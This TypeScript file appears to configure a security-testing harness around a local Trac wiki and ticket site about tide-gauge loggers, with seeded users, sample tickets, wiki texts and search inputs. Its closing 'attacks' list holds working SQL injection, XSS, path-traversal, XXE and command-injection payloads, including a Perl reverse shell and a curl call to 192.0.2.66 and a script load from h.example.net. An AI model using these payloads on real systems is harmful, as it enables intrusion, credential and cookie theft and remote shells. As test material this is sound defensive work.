import type { Application } from "../application.ts";

const makeProject = `
import base64, hashlib
from trac.env import Environment
from trac.perm import PermissionSystem
from trac.ticket.model import Component, Milestone, Ticket
from trac.wiki.model import WikiPage

env = Environment("env")
for section, name, value in [
    ("components", "acct_mgr.web_ui.loginmodule", "enabled"), ("components", "acct_mgr.htfile.htpasswdstore", "enabled"),
    ("components", "acct_mgr.pwhash.htpasswdhashmethod", "enabled"), ("components", "acct_mgr.api.accountmanager", "enabled"),
    ("components", "trac.web.auth.loginmodule", "disabled"),
    ("account-manager", "password_store", "HtPasswdStore"), ("account-manager", "htpasswd_file", "../htpasswd"),
    ("account-manager", "htpasswd_hash_type", "sha"), ("account-manager", "persistent_sessions", "false"),
    ("header_logo", "src", ""),
    ("ticket", "default_component", "logger"), ("ticket", "max_comment_size", "262144"),
]:
    env.config.set(section, name, value)
env.config.save()
with open("htpasswd", "w") as f:
    for name in ["marit", "dov", "keeper"]:
        f.write(f"{name}:{{SHA}}{base64.b64encode(hashlib.sha1(b'spring-tide-9').digest()).decode()}\\n")

env = Environment("env")
permissions = PermissionSystem(env)
for action in ["REPORT_CREATE", "REPORT_MODIFY", "MILESTONE_CREATE", "MILESTONE_MODIFY", "ROADMAP_VIEW", "TICKET_EDIT_DESCRIPTION", "WIKI_RENAME"]:
    permissions.grant_permission("authenticated", action)
for old in Component.select(env):
    old.delete()
for name in ["logger", "radio", "server", "case"]:
    one = Component(env)
    one.name, one.owner = name, "dov"
    one.insert()
titles = ["Readings stop after 49.7 days", "Radio: retries flood the channel", "Negative heights below chart datum", "Lid leaks at hinge",
          "CSV export has a comma as decimal separator", "Clock drifts 4 s/day below 0 C", "Web page shows UTC as local time", "Battery at 3.1 V reported as 31 V"]
for i, title in enumerate(titles * 3):
    ticket = Ticket(env)
    ticket["summary"] = title if i < 8 else f"{title} (station {i})"
    ticket["description"] = f"Seen at station {i + 1}.\\n\\n{{{{{{\\nlevel={i * 13 % 900} mm rssi=-{80 + i}\\n}}}}}}\\n\\nSee HarbourStation."
    ticket["reporter"], ticket["component"], ticket["type"], ticket["status"] = "keeper", ["logger", "radio", "server", "case"][i % 4], ["defect", "enhancement", "task"][i % 3], "new"
    ticket["milestone"], ticket["priority"] = f"milestone{i % 4 + 1}", "major"
    ticket.insert()
for name, text in {
    "WikiStart": "= Tide gauges =\\n\\nLoggers on eleven piers. Start with HarbourStation, RadioFrames or DatumNotes, see ReleaseChecklist, query:status=new or {1}.\\n\\n * [wiki:FieldDiary Field diary]\\n * [/newticket New ticket]",
    "HarbourStation": "= Harbour station =\\n\\n||= depth =||= 3.20 m =||\\n||= radio =||= 868 MHz =||\\n\\nOpen: #1, #3. Datum: DatumNotes.",
    "RadioFrames": "= Frames =\\n\\n{{{\\nAA 55 <len> <id> <level:u16> <crc:u16>\\n}}}\\n\\nSee #2 and HarbourStation.",
    "DatumNotes": "= Datum =\\n\\nAll heights are above chart datum; see #3.",
    "ReleaseChecklist": "= Release =\\n\\n 1. tag\\n 2. flash HarbourStation\\n 3. milestone:milestone1",
    "FieldDiary": "= Field diary =\\n\\n'''12 March''': replaced the lid (#4). Wet.",
}.items():
    page = WikiPage(env, name)
    page.text = text
    page.save("keeper", "first version")
`;

/** A wiki and tickets of one project, here of loggers that measure tides; its visitors write pages, tickets and reports in SQL. */
export const trac: Application = {
  name: "trac",
  packages: { pip: ["Trac==1.6", "TracAccountManager==0.6.0"] },
  files: () => ({ "make.py": makeProject }),
  prepare: () => [
    ["trac-admin", "env", "initenv", "Tide gauges", "sqlite:db/trac.db"],
    ["python3", "make.py"],
  ],
  start: ({ port }) => ["tracd", "--single-env", "--hostname", "127.0.0.1", "--port", String(port), "env"],
  ready: "/wiki",
  async enter(page, origin) {
    await page.goto(`${origin}/login`);
    await page.locator("#username").fill("marit");
    await page.locator("#password").fill("spring-tide-9");
    await page.keyboard.press("Enter");
    await page.locator("text=logged in as").waitFor();
  },
  pages: [
    "/wiki",
    "/wiki/HarbourStation?action=edit",
    "/wiki/FieldDiary?action=edit",
    "/wiki/RadioFrames",
    "/wiki/Sensor2026?action=edit",
    "/newticket",
    "/ticket/3",
    "/ticket/11",
    "/query?status=!closed&order=priority",
    "/report?action=new",
    "/search?q=datum&noquickjump=1",
    "/timeline",
  ],
  // Pages of the wiki that explain Trac are many, and nobody who uses it every day reads them.
  avoid:
    /delete|account|preferences|\/wiki\/(Trac|Wiki[^S]|InterTrac|InterMap|InterWiki|TitleIndex|SandBox)|\/about|trac\.edgewall|api docs/i,
  texts: {
    searches: [
      "datum",
      "chart datum",
      "49.7 days",
      "retries",
      "crc16",
      "#3",
      "ticket:4",
      "rssi < -100",
      "lid hinge",
      "'decimal separator'",
      '"clock drift"',
      "HarbourStation",
      "battery 3.1 V",
      "0x55AA",
      "wiki:FieldDiary",
      "spring tide; neap tide",
      "uint32_t overflow",
      "milestone2",
      "r118",
      "868 MHz",
      "Tidenhub",
      "marée haute",
      "%Y-%m-%d",
      "flood & ebb",
      "水位",
      "прилив",
      "/dev/ttyACM0",
      "level (mm)",
    ],
    lines: [
      "Level jumps by 65.535 m at midnight",
      "Station 7 doesn't answer after rain",
      "millis() wraps: use (uint32_t)(now - then)",
      "Add a low-pass filter (τ = 30 s)",
      "Lid's gasket is too hard below 0 °C",
      "Frames with len=0 crash the parser",
      "Wrong sign when datum > level",
      "Typo in RadioFrames",
      "Can't flash over /dev/ttyACM0: permission denied",
      'Rename "height" to "level" everywhere',
      "CSV: 1;2,5;3 should be 1,2.5,3",
      "100% CPU in select() when the modem's off",
      "logger radio",
      "marit, dov",
      "crc; framing",
      "replaced the lid",
      "Pegel springt bei Hochwasser",
      "Décalage horaire en été",
      "水位計の校正",
      "watchdog != reset",
      "fixed the table & added photos",
      `Use \${STATION_ID} in topic names`,
      "Docs: how to read <level:u16>",
      "undo last edit, sorry",
      "#12 again?",
      "server/ingest.py: KeyError 'rssi'",
      "nothing but typos",
    ],
    long: [
      "= Calibration =\nPut the sensor into a bucket at 0, 500 and 1000 mm and note the raw values:\n\n||= mm =||= raw =||\n|| 0 || 312 ||\n|| 500 || 1844 ||\n|| 1000 || 3377 ||\n\nSlope: 3.065/mm; it's linear to ±2 mm.",
      "Happens again at station 4, log attached:\n\n{{{\n2026-02-11T03:14:07Z level=65535 rssi=-97 bat=3.61\n2026-02-11T03:15:07Z level=65535 rssi=-98 bat=3.60\n}}}\n\nSo it isn't the radio; 65535 is what ADC_read() returns on a time-out.",
      '{{{#!c\nif ((uint32_t)(millis() - last) >= INTERVAL) {\n  last += INTERVAL;   /* not "last = millis()": that drifts */\n  send_frame(read_level());\n}\n}}}',
      "SELECT id AS ticket, summary, component, milestone, time AS created, owner\n  FROM ticket\n WHERE status <> 'closed' AND component = 'radio'\n ORDER BY priority, time DESC",
      "SELECT owner, count(*) AS open, min(time) AS _oldest\n  FROM ticket t LEFT JOIN enum p ON p.name = t.priority AND p.type = 'priority'\n WHERE t.status IN ('new', 'assigned', 'accepted')\n GROUP BY owner HAVING count(*) > 2",
      "SELECT p.value AS __color__, id AS ticket, summary, reporter FROM ticket t, enum p\n WHERE p.name = t.priority AND reporter = '$USER' -- mine",
      "I'd rather not: a retry every 5 s from eleven stations is 11 × 12 = 132 frames/min, and we're allowed 1% of air time (36 s/h).",
      "'''14 April''': low water at 06:12, gauge says 0.43 m, staff says 0.41 m. Cleaned the pipe; mussels. ''Bring the long spanner next time!''",
      "Steps to reproduce:\n 1. `stty -F /dev/ttyACM0 115200 raw`\n 2. `printf '\\xAA\\x55\\x00' > /dev/ttyACM0`\n 3. see the watchdog bite\n\nExpected: the frame's dropped.",
      '{{{#!python\ndef level(raw, slope=3.065, zero=312):\n    """Millimetres above the sensor; None if it\'s dry."""\n    return None if raw < zero else round((raw - zero) / slope)\n}}}\n\n@dov: does `< zero` match what you see?',
      "Works for me with r121. Can you check that `/etc/tide/station.conf` says\n\n{{{\n[radio]\nport = /dev/serial/by-id/usb-0403_6001\nretry = 3; jitter = 20%\n}}}",
      "Der Pegel läuft seit gestern wieder. Ursache war Wasser im Stecker (Dichtung fehlte!). Bitte bei Station 3 & 8 auch nachsehen.",
      "See [https://example.org/tides?station=4&from=2026-01-01 the plot], #5, comment:2:ticket:7 and [wiki:DatumNotes].\n\n[[Image(HarbourStation:pier.jpg, 400px)]]",
      "h(t) = Z₀ + Σ Aᵢ·cos(ωᵢ·t − φᵢ), with M2 (12.42 h) and S2 (12.00 h) it's within 6 cm; K1 & O1 bring it to 4 cm. Storm surge isn't in there, obviously.",
      "潮位データの単位は mm です。cm に変換する場合は 10 で割ってください（例: 1234 → 123.4）。",
      "journalctl -u tide-ingest --since yesterday | grep -c 'bad crc'\n\ngives 3 at station 1 and 1874 at station 9; the antenna's cable is broken, I'd bet.",
      'Patch below; please review.\n\n{{{#!diff\n-    cur.execute("INSERT INTO level VALUES (?, ?)", (ts, mm))\n+    cur.execute("INSERT OR IGNORE INTO level VALUES (?, ?, ?)", (station, ts, mm))\n}}}',
      "Fixed, thanks. It's `{{{{{{ }}}}}}` that broke the page; and don't put `||` into a table cell without `!`.",
    ],
  },
  attacks: [
    {
      class: "sql_injection",
      payload:
        "0) UNION SELECT sid,name,value,authenticated,5,6,7,8 FROM session_attribute WHERE name IN ('email','password')/*",
    },
    {
      class: "sql_injection",
      payload: "datum%' AND (SELECT 1 FROM auth_cookie WHERE substr(cookie,1,1)='a')=1 AND '%'='",
    },
    { class: "sql_injection", payload: "radio';INSERT/**/INTO/**/permission/**/VALUES('marit','TRAC_ADMIN');--" },
    { class: "sql_injection", payload: "3 AND 5821=(SELECT 5821 FROM PG_SLEEP(5))-- JhQa" },
    {
      class: "sql_injection",
      payload: '" OR ROW(2,4)>(SELECT COUNT(*),CONCAT(cookie,FLOOR(RAND(0)*2))x FROM auth_cookie GROUP BY x)#',
    },
    { class: "sql_injection", payload: "new'||(SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98),5) FROM DUAL)||'" },
    {
      class: "xss",
      payload: "{{{#!html <script>document.querySelector('#mainnav').innerHTML=document.cookie</script> }}}",
    },
    {
      class: "xss",
      payload: "[[Image(x.jpg,onerror=top['eval'](location.hash.slice(1)))]]<img src onerror=eval(name)>",
    },
    {
      class: "xss",
      payload:
        "'-(function(){var s=document.createElement('script');s.src='//h.example.net/t';document.head.append(s)})()-'",
    },
    { class: "xss", payload: '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>' },
    { class: "xss", payload: "x\u0022 style=animation-name:spin onanimationstart=confirm(document.cookie) a=\u0022" },
    { class: "path_traversal", payload: "/chrome/site/..%2f..%2f..%2fconf%2ftrac.ini" },
    { class: "path_traversal", payload: "[[Include(../../../../../../home/trac/.pgpass)]]" },
    {
      class: "path_traversal",
      payload: "/raw-attachment/wiki/WikiStart/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/group",
    },
    { class: "path_traversal", payload: "..././..././..././htpasswd" },
    {
      class: "command_injection",
      payload:
        'r118;perl -e \'use Socket;$i="192.0.2.66";$p=53;socket(S,2,1,6);connect(S,sockaddr_in($p,inet_aton($i)));exec("/bin/sh -i")\'',
    },
    { class: "command_injection", payload: "--output=/srv/hooks/post-commit HEAD`curl -s 192.0.2.66/h`" },
    {
      class: "command_injection",
      payload: "{{{#!python __import__('subprocess').check_output('id;hostname',shell=True) }}}",
    },
    {
      class: "command_injection",
      payload: `\${7*191}#{7*191}{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}`,
    },
    {
      class: "xxe",
      payload:
        '<!DOCTYPE gauge [<!ELEMENT gauge ANY><!ENTITY ini SYSTEM "php://filter/read=convert.base64-encode/resource=/srv/env/conf/trac.ini">]><gauge station="4">&ini;</gauge>',
    },
  ],
};
